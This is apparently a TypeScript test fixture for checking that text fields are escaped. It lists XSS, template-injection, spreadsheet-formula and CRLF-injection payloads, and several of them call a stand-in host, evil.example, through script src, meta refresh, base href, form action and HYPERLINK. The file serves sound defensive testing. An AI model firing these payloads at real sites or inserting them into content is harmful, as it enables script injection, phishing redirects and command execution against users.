/** Texts that are dangerous where they are not shown as text. Each fits every text field. */

/** Takes the place of a payload, for a comparison. */
export const plain = 'Plain name'

/** `hit` is never defined by a page; a page in which it is has run one of these. */
export const payloads: readonly string[] = [
  // Scripts
  '<script>hit=1</script>',
  '</script><script>hit=1</script>',
  '<ScRiPt>hit=1</sCrIpT>',
  '<script/src=//evil.example>',
  '<img src=x onerror=hit=1>',
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  '<body onload=hit=1>',
  '<details open ontoggle=hit=1>',
  '<math><mtext></style><img src onerror=hit=1>',
  '<iframe srcdoc="<script>top.hit=1</script>">',
  '<template><img src=x onerror=hit=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<!--><img src=x onerror=hit=1>-->',
  ']]><img src=x onerror=hit=1>',
  // Attributes
  '" autofocus onfocus=hit=1 x="',
  "' autofocus onfocus=hit=1 x='",
  '"><img src=x onerror=hit=1>',
  "'><img src=x onerror=hit=1>",
  '` onmouseover=hit=1 `',
  '&quot; onfocus=hit=1 autofocus',
  '&lt;script&gt;hit=1&lt;/script&gt;',
  '&#60;img src=x onerror=hit=1&#62;',
  // Addresses
  'javascript:hit=1',
  'jav&#x61;script:hit=1',
  'data:text/html,<script>hit=1</script>',
  '<a href="javascript:hit=1">Ana</a>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<base href=//evil.example/>',
  '<form action=//evil.example><button>Sign in',
  // Styles
  '</style><img src=x onerror=hit=1>',
  '<style>*{display:none}</style>',
  'x;background:url(//evil.example)',
  '<link rel=stylesheet href=//evil.example>',
  // Templates
  '{{7*7}} ${7*7} #{7*7}',
  '<%= 7*7 %> {%7*7%} $t(common.save)',
  '{{constructor.constructor("hit=1")()}}',
  '{name} {{name}} %s %d %n',
  // Formulas of spreadsheets
  '=HYPERLINK("//evil.example","Ana")',
  "+cmd|'/c calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
]

/** Refused, because nobody can see what they do. */
export const invisiblePayloads: readonly string[] = [
  'Ana \u202Elave\u202C',
  'Ana \u2066abc\u2069',
  'Ana\u200BLima',
  'Ana \u{E0041}Lima',
  'Ana\u0000Lima',
  'Ana\u001B[31mLima',
  'Ana\r\nBcc: all@example.com',
]
